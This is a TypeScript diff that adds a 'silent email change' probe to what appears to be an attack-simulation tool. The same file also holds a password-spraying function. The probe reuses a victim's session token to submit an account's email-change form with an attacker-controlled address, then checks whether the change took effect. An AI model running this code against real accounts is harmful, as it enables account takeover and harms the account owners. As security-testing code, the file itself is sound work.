@@ -297,3 +297,30 @@ export async function sprayAccount(t: Target, creds: { email: string; password: 
   if (owner.failed) return { attempts: l.attempts, sources: l.sources, skipped: owner.failed, owner: none };
   return { attempts: l.attempts, sources: l.sources, owner };
 }
+
+// --- 12. silent email change ---------------------------------------------------------------------
+
+/** Posts the email form raw with the victim's (fresh) cookie and only the new address filled in. */
+export async function probeEmailChange(t: Target, token: string, o: ClientOpts): Promise<{ skipped?: string; attackerEmail: string; before: string | null; after: string | null; postStatus: number }> {
+  const e = t.adapter.emailChange;
+  const attackerEmail = `sim-attacker-${randomBytes(4).toString("hex")}@example.invalid`;
+  if (!e) return { skipped: "the adapter has no emailChange section", attackerEmail, before: null, after: null, postStatus: 0 };
+  const read = async () => {
+    const html = await rawRequest(t.base, { path: e.page, headers: sessionHeaders(t, token, { ...o, headers: { ...o.headers, accept: "text/html" } }), localAddress: o.localAddress });
+    const m = new RegExp(e.displayPattern, "i").exec(html.body);
+    return { html, email: m ? decodeEntities(m[1] ?? "").trim() : null };
+  };
+  const before = await read();
+  if (before.html.status !== 200) return { skipped: `${e.page} → ${before.html.status}`, attackerEmail, before: null, after: null, postStatus: 0 };
+  const form = findFormByButton(before.html.body, e.button);
+  if (!form) return { skipped: `no form with a "${e.button}" button on ${e.page}`, attackerEmail, before: before.email, after: null, postStatus: 0 };
+  form.fields = [...form.fields.filter(([k]) => k !== e.field), [e.field, attackerEmail]];
+  const { body, contentType } = encodeForm(form);
+  const headers = sessionHeaders(t, token, { userAgent: o.userAgent, headers: { ...o.headers, "content-type": contentType, accept: "text/html" } });
+  headers.origin = new URL(t.base).origin;
+  const target = new URL(form.action || e.page, new URL(e.page, t.base));
+  const res = await rawRequest(t.base, { path: target.pathname + target.search, method: "POST", headers, body, localAddress: o.localAddress });
+  await sleep(200);
+  const after = await read();
+  return { attackerEmail, before: before.email, after: after.email, postStatus: res.status };
+}
